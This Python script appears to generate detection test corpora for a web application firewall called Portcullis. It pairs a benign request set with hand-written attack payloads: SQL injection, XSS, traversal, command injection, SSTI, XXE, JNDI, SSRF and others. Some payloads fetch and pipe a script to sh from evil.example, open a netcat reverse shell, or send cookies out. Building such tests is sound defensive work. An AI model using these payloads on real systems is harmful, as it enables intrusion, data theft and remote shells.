#!/usr/bin/env python3
"""Generate Portcullis's detection corpora (deterministic, fixed seed).

    python3 tests/detection/generate.py OUT_DIR

writes OUT_DIR/attacks.jsonl and OUT_DIR/benign.jsonl. One request per line:

    {"id": "sqli-03-query-url", "class": "sqli", "placement": "query",
     "encoding": "url", "method": "GET", "uri": "/search?q=...",
     "headers": [["Host", "shop.example"], ...], "body": "..."}

`class` is "benign" in benign.jsonl. `encoding` says what the application
sees after the ordinary transport decoding of its placement (query and form
percent-decoding, the JSON or XML parser): "plain" is the payload itself,
"url" and "double_url" the payload percent-encoded once or twice more,
"base64" the whole value base64-encoded, "json_unicode" every character as
a JSON \\uXXXX escape (JSON only), "xml_entities" every character as an XML
character reference (XML only). Every payload here was written for this
project; none is taken from another project's lists or tests.
"""

import base64
import json
import random
import sys
import urllib.parse
from pathlib import Path

SEED = 13
HOST = "shop.example"

# Attack payloads, by class: several distinct ones each, written by hand.
PAYLOADS = {
    "sqli": [
        "1' OR '1'='1' -- ",
        "42 UNION SELECT username, password_hash FROM accounts--",
        "x'; DROP TABLE orders; --",
        "1 AND SLEEP(5)#",
        "admin'/**/or/**/1=1/**/limit/**/1#",
        "7) AND extractvalue(1,concat(0x7e,(select version())))--",
    ],
    "xss": [
        "<script>alert(document.domain)</script>",
        "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(String.fromCharCode(88,83,83))",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
        "<body onpageshow=confirm`1`>",
    ],
    "path_traversal": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/var/www/../../etc/shadow",
        "....//....//....//etc/hosts",
        "../../../proc/self/environ",
        "/etc/passwd%00.png",
    ],
    "cmdi": [
        "127.0.0.1; cat /etc/passwd",
        "x && curl http://evil.example/s.sh | sh",
        "$(id)",
        "`uname -a`",
        "foo | nc -e /bin/sh 10.0.0.7 4444",
        "a;wget${IFS}http://evil.example/x -O /tmp/x",
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*",
        "admin)(&(objectClass=*)",
        "*)(|(userPassword=*)",
        "jdoe)(|(cn=*)(mail=*))",
        "*))%00",
    ],
    "crlf": [
        "victim@example.org\r\nBcc: list@evil.example",
        "hello\r\nSet-Cookie: session=attacker",
        "en\r\n\r\n<html>injected</html>",
        "report\nContent-Type: text/html\nX-Injected: 1",
        "user@example.org%0d%0aCc:%20spam@evil.example",
    ],
    "ssi": [
        "<!--#exec cmd=\"ls -la /\" -->",
        "<!--#include virtual=\"/etc/passwd\" -->",
        "<!--#echo var=\"DOCUMENT_ROOT\" -->",
        "<!--#config errmsg=\"x\" --><!--#exec cgi=\"/cgi-bin/a.sh\" -->",
        "<!--#printenv -->",
    ],
    "ssti": [
        "{{7*7}}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<%= system('whoami') %>",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
        "#set($x=$class.inspect('java.lang.Runtime'))$x",
    ],
    "nosql": [
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "{\"$where\": \"this.password.length > 0\"}",
        "{\"$regex\": \"^adm\"}",
        "'; return db.users.find(); var x='",
    ],
    "xxe": [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><r>&e;</r>",
        "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><d/>",
        "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a>1</a>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">]><x>&a;</x>",
        "<!DOCTYPE q [<!ENTITY l0 \"lol\"><!ENTITY l1 \"&l0;&l0;&l0;&l0;\">]><q>&l1;</q>",
    ],
    "jndi": [
        "${jndi:ldap://evil.example:1389/a}",
        "${jndi:rmi://10.0.0.8/obj}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
        "${jndi:dns://evil.example/${env:USER}}",
        "${${::-j}${::-n}${::-d}${::-i}:ldaps://evil.example/b}",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "phpinfo();",
        "eval(base64_decode('ZWNobyAxOw=='));",
        "php://filter/read=convert.base64-encode/resource=config.php",
        "assert(file_get_contents('/etc/passwd'))",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "http://[::1]:8500/v1/agent/self",
        "file:///etc/passwd",
        "http://0x7f000001/admin",
    ],
}

PLACEMENTS = ["query", "path", "form", "multipart", "json", "xml", "header", "cookie", "user_agent"]
ENCODINGS = ["plain", "url", "double_url", "base64"]
EXTRA_ENCODING = {"json": "json_unicode", "xml": "xml_entities"}

BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"


def encode(value: str, encoding: str) -> str:
    """What the application sees (see the module docstring)."""
    if encoding == "plain":
        return value
    if encoding == "url":
        return urllib.parse.quote(value, safe="")
    if encoding == "double_url":
        return urllib.parse.quote(urllib.parse.quote(value, safe=""), safe="")
    if encoding == "base64":
        return base64.b64encode(value.encode()).decode()
    raise ValueError(encoding)


def header_safe(value: str) -> str:
    """A header or cookie value cannot hold CR, LF or other controls: as %XX."""
    return "".join(c if 0x20 <= ord(c) < 0x7F or ord(c) > 0x7F else "%%%02X" % ord(c) for c in value)


def xml_escape(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def base_headers(ua: str = BROWSER_UA):
    return [
        ["Host", HOST],
        ["User-Agent", ua],
        ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
        ["Accept-Language", "en-GB,en;q=0.7"],
    ]


def request(method, uri, headers, body=""):
    if body or method in ("POST", "PUT", "PATCH"):
        headers = headers + [["Content-Length", str(len(body.encode()))]]
    return {"method": method, "uri": uri, "headers": headers, "body": body}


def place(placement: str, value: str, cls: str, encoding: str) -> dict:
    """One request carrying `value` (already encoded) in `placement`."""
    q = urllib.parse.quote
    if placement == "query":
        return request("GET", "/search?lang=en&q=" + q(value, safe=""), base_headers())
    if placement == "path":
        return request("GET", "/files/" + q(value, safe="/") + "/view", base_headers())
    if placement == "form":
        body = "name=Jane&comment=" + urllib.parse.quote_plus(value) + "&submit=Send"
        return request("POST", "/contact", base_headers() + [["Content-Type", "application/x-www-form-urlencoded"]], body)
    if placement == "multipart":
        b = "----PortcullisEval7MA4YWxkTrZu0gW"
        body = (
            f"--{b}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nQuarterly report\r\n"
            f"--{b}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{value}\r\n"
            f"--{b}--\r\n"
        )
        return request("POST", "/upload", base_headers() + [["Content-Type", f"multipart/form-data; boundary={b}"]], body)
    if placement == "json":
        if encoding == "json_unicode":
            inner = "".join("\\u%04x" % ord(c) for c in value)
            body = '{"user":"jane","query":"' + inner + '","page":1}'
        else:
            body = json.dumps({"user": "jane", "query": value, "page": 1}, ensure_ascii=False)
        return request("POST", "/api/search", base_headers() + [["Content-Type", "application/json"]], body)
    if placement == "xml":
        if cls == "xxe" and encoding == "plain":
            body = value
        elif encoding == "xml_entities":
            body = "<?xml version=\"1.0\"?><order><item>" + "".join("&#x%x;" % ord(c) for c in value) + "</item></order>"
        else:
            body = "<?xml version=\"1.0\"?><order><item>" + xml_escape(value) + "</item></order>"
        return request("POST", "/api/orders", base_headers() + [["Content-Type", "application/xml"]], body)
    if placement == "header":
        return request("GET", "/account", base_headers() + [["X-Search-Filter", header_safe(value)]])
    if placement == "cookie":
        v = header_safe(value).replace(";", "%3B")
        return request("GET", "/account", base_headers() + [["Cookie", f"theme=dark; pref={v}; sid=4f1c2a"]])
    if placement == "user_agent":
        return request("GET", "/", base_headers(ua=header_safe(value)))
    raise ValueError(placement)


def attacks():
    out = []
    for cls, payloads in PAYLOADS.items():
        for i, payload in enumerate(payloads, 1):
            for placement in PLACEMENTS:
                encs = ENCODINGS + ([EXTRA_ENCODING[placement]] if placement in EXTRA_ENCODING else [])
                for enc in encs:
                    value = payload if enc in ("json_unicode", "xml_entities") else encode(payload, enc)
                    r = place(placement, value, cls, enc)
                    r = {"id": f"{cls}-{i:02d}-{placement}-{enc}", "class": cls, "placement": placement, "encoding": enc, **r}
                    out.append(r)
    return out


# ---------------------------------------------------------------- benign

PROSE = [
    "union station select seats",
    "drop me a line when you land",
    "select your seat then update your profile",
    "Please delete my old address and insert the new one from my profile",
    "Where can I order a table for two near Union Square?",
    "I want to drop the yoga class and join the evening run instead",
    "Is the script for the school play ready? Alert the parents please.",
    "Can you cat-sit from Friday to Sunday? We're at 1 Main St & 5th Ave.",
    "My son's name is O'Brien, not OBrien; please update the booking",
    "The exec committee meets on Tuesday; sleep well before the vote",
    "What's the difference between 'where' and 'when' clauses in SQL?",
    "Kill the lights and echo the chorus twice -- the band's notes",
    "Order #1234 from the union catalogue: 2 x chairs, 1 x table",
    "I'd like to join your mailing list and select the weekly digest",
    "Set the alarm for 6; wake me if the cron job fails",
    "Our shell company (Shell & Co.) moved to 10 Downing Lane",
    "Price: $10 < $20 > $5, isn't it?",
    "Reminder: bring ID, passport & the print-out of the ticket",
    "Use the 'find my order' page, then click 'update'.",
    "Is the 1=1 promo (buy one get one) still running?",
]
SEARCHES = [
    "union station select seats", "drop me a line", "cheap flights to dublin", "o'reilly books",
    "python list comprehension", "how to update profile photo", "select all that apply meaning",
    "table tennis bats", "where to insert sim card", "rock & roll hall of fame", "c++ vs rust",
    "1/2 inch drill bit", "what is 50% of 80", "men's shoes size 10", "café au lait", "naïve bayes",
    "email@example.com not working", "script writing course", "alert box css", "delete account",
    "from paris to rome by train", "sleep apnea test", "wait for it", "ls vs dir", "cat food",
]
NAMES = ["O'Brien", "D'Angelo", "Jean-Luc Picard", "María José", "Zoë Smith", "Søren Kierkegaard",
         "Nguyễn Văn An", "Mc'Donald", "Anne-Marie O'Neill", "José", "Åsa Öberg", "李雷"]
CODE = [
    "SELECT id, name FROM users WHERE created_at > NOW() - INTERVAL '7 days' ORDER BY name;",
    "for f in *.log; do gzip \"$f\"; done",
    "def add(a, b):\n    return a + b\n",
    "const total = items.reduce((s, i) => s + i.price, 0);",
    "if (x < 10 && y > 3) { console.log('ok'); }",
    "fn main() { println!(\"hello\"); }",
    "<div class=\"card\">Hello</div>",
    "git commit -m 'fix: handle empty cart'",
    "UPDATE settings SET theme = 'dark' WHERE user_id = 7;",
]
MARKDOWN = [
    "# Release notes\n\n- Fixed *login* bug\n- Added `export` button\n\n> Thanks to all contributors!",
    "## Steps\n1. Open **Settings**\n2. Select *Privacy*\n3. Click [Save](https://example.org/help)",
    "Here is a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    "Code: `npm install --save lodash` then `npm run build`",
    "![logo](https://cdn.example.org/logo.png \"Logo\")",
]
PATHS = ["/", "/products", "/products/4711", "/blog/2026/12/hello-world", "/static/app.3f9a1c.js",
         "/static/style.css", "/images/banner.webp", "/api/v1/cart", "/account/orders", "/help/faq",
         "/docs/getting-started", "/favicon.ico", "/search", "/category/garden-tools"]
ACCEPTS = ["text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
           "application/json, text/plain, */*", "image/avif,image/webp,image/apng,*/*;q=0.8", "*/*"]
UAS = [BROWSER_UA,
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
       "okhttp/4.12.0", "python-requests/2.32.3", "curl/8.5.0"]


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def jwt(rng) -> str:
    head = b64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    body = b64url(json.dumps({"sub": str(rng.randint(1000, 99999)), "name": rng.choice(NAMES),
                              "iat": 1765000000 + rng.randint(0, 99999), "scope": "read write"}).encode())
    sig = b64url(rng.randbytes(32))
    return f"{head}.{body}.{sig}"


def browser_headers(rng, accept=None):
    h = [["Host", HOST], ["User-Agent", rng.choice(UAS)], ["Accept", accept or rng.choice(ACCEPTS)],
         ["Accept-Language", rng.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.5", "fr-FR,fr;q=0.8"])],
         ["Accept-Encoding", "gzip, deflate, br, zstd"]]
    if rng.random() < 0.5:
        h.append(["If-None-Match", 'W/"%x-%s"' % (rng.randint(100, 99999), b64url(rng.randbytes(12)))])
    if rng.random() < 0.4:
        h.append(["Referer", f"https://{HOST}{rng.choice(PATHS)}"])
    if rng.random() < 0.6:
        h.append(["Cookie", long_cookie(rng)])
    if rng.random() < 0.2:
        h.append(["Authorization", "Bearer " + jwt(rng)])
    if rng.random() < 0.3:
        h.append(["Sec-Fetch-Mode", "navigate"])
        h.append(["Sec-Ch-Ua", '"Chromium";v="126", "Not.A/Brand";v="24"'])
    return h


def long_cookie(rng) -> str:
    parts = [f"sid={rng.randbytes(16).hex()}", f"_ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(10**9, 2 * 10**9)}",
             "theme=dark", f"cart={b64url(json.dumps({'items': rng.randint(0, 9)}).encode())}"]
    if rng.random() < 0.5:
        parts.append("jwt=" + jwt(rng))
    if rng.random() < 0.3:
        parts.append("consent=" + urllib.parse.quote(json.dumps({"ads": False, "stats": True})))
    return "; ".join(parts)


def form_body(fields) -> str:
    return "&".join(f"{k}={urllib.parse.quote_plus(v)}" for k, v in fields)


def benign():
    rng = random.Random(SEED)
    text_sources = PROSE + CODE + MARKDOWN
    kinds = ["page", "search", "form_prose", "form_code", "json_api", "multipart", "name", "markdown_json",
             "data_url", "jwt_api", "xml"]
    out = []
    for n in range(600):
        kind = kinds[n % len(kinds)]
        h = browser_headers(rng)
        if kind == "page":
            r = request("GET", rng.choice(PATHS) + rng.choice(["", "?page=2", "?utm_source=newsletter&utm_medium=email", "?sort=price_asc&size=M"]), h)
        elif kind == "search":
            r = request("GET", "/search?q=" + urllib.parse.quote_plus(rng.choice(SEARCHES + PROSE)) + "&page=" + str(rng.randint(1, 5)), h)
        elif kind == "form_prose":
            body = form_body([("name", rng.choice(NAMES)), ("email", "reader@example.org"), ("message", rng.choice(PROSE)), ("subscribe", "on")])
            r = request("POST", "/contact", h + [["Content-Type", "application/x-www-form-urlencoded"]], body)
        elif kind == "form_code":
            body = form_body([("title", "How do I do this?"), ("body", rng.choice(CODE)), ("tags", rng.choice(["sql", "bash", "python", "js"]))])
            r = request("POST", "/forum/posts", h + [["Content-Type", "application/x-www-form-urlencoded"]], body)
        elif kind == "json_api":
            doc = {"customer": {"name": rng.choice(NAMES), "note": rng.choice(PROSE)},
                   "items": [{"sku": f"SKU-{rng.randint(100, 999)}", "qty": rng.randint(1, 4)} for _ in range(rng.randint(1, 4))],
                   "coupon": rng.choice([None, "WINTER10", "union-2026"])}
            r = request("POST", "/api/v1/orders", h + [["Content-Type", "application/json"]], json.dumps(doc, ensure_ascii=False))
        elif kind == "multipart":
            b = "----WebKitFormBoundary" + b64url(rng.randbytes(12))
            body = (f"--{b}\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\n{rng.choice(PROSE)}\r\n"
                    f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"notes.txt\"\r\nContent-Type: text/plain\r\n\r\n{rng.choice(text_sources)}\r\n"
                    f"--{b}--\r\n")
            r = request("POST", "/upload", h + [["Content-Type", f"multipart/form-data; boundary={b}"]], body)
        elif kind == "name":
            name = rng.choice(NAMES)
            r = request("GET", "/people?last=" + urllib.parse.quote(name) + "&city=" + urllib.parse.quote(rng.choice(["Cork", "Zürich", "São Paulo"])), h)
        elif kind == "markdown_json":
            doc = {"title": "Notes", "body": rng.choice(MARKDOWN), "draft": rng.random() < 0.5}
            # POST, not PUT: CRS refuses PUT by policy (911100, tx.allowed_methods), which is
            # configuration, not detection.
            r = request("POST", f"/api/v1/pages/{rng.randint(1, 500)}", h + [["Content-Type", "application/json"]], json.dumps(doc))
        elif kind == "data_url":
            img = base64.b64encode(b"\x89PNG\r\n\x1a\n" + rng.randbytes(rng.randint(60, 600))).decode()
            doc = {"avatar": "data:image/png;base64," + img, "alt": rng.choice(NAMES)}
            r = request("POST", "/api/v1/profile/avatar", h + [["Content-Type", "application/json"]], json.dumps(doc))
        elif kind == "jwt_api":
            r = request("GET", f"/api/v1/me?fields=name,email&ts={rng.randint(10**9, 2 * 10**9)}",
                        [x for x in h if x[0] != "Authorization"] + [["Authorization", "Bearer " + jwt(rng)]])
        else:  # xml
            body = f"<?xml version=\"1.0\"?><note><to>{xml_escape(rng.choice(NAMES))}</to><text>{xml_escape(rng.choice(PROSE))}</text></note>"
            r = request("POST", "/api/notes", h + [["Content-Type", "application/xml"]], body)
        out.append({"id": f"benign-{n:03d}-{kind}", "class": "benign", "placement": kind, "encoding": "plain", **r})
    return out


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: generate.py OUT_DIR")
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    for name, rows in (("attacks.jsonl", attacks()), ("benign.jsonl", benign())):
        with open(out / name, "w", encoding="utf-8") as f:
            for r in rows:
                f.write(json.dumps(r, ensure_ascii=False) + "\n")
        print(f"{out / name}: {len(rows)} requests")


if __name__ == "__main__":
    main()
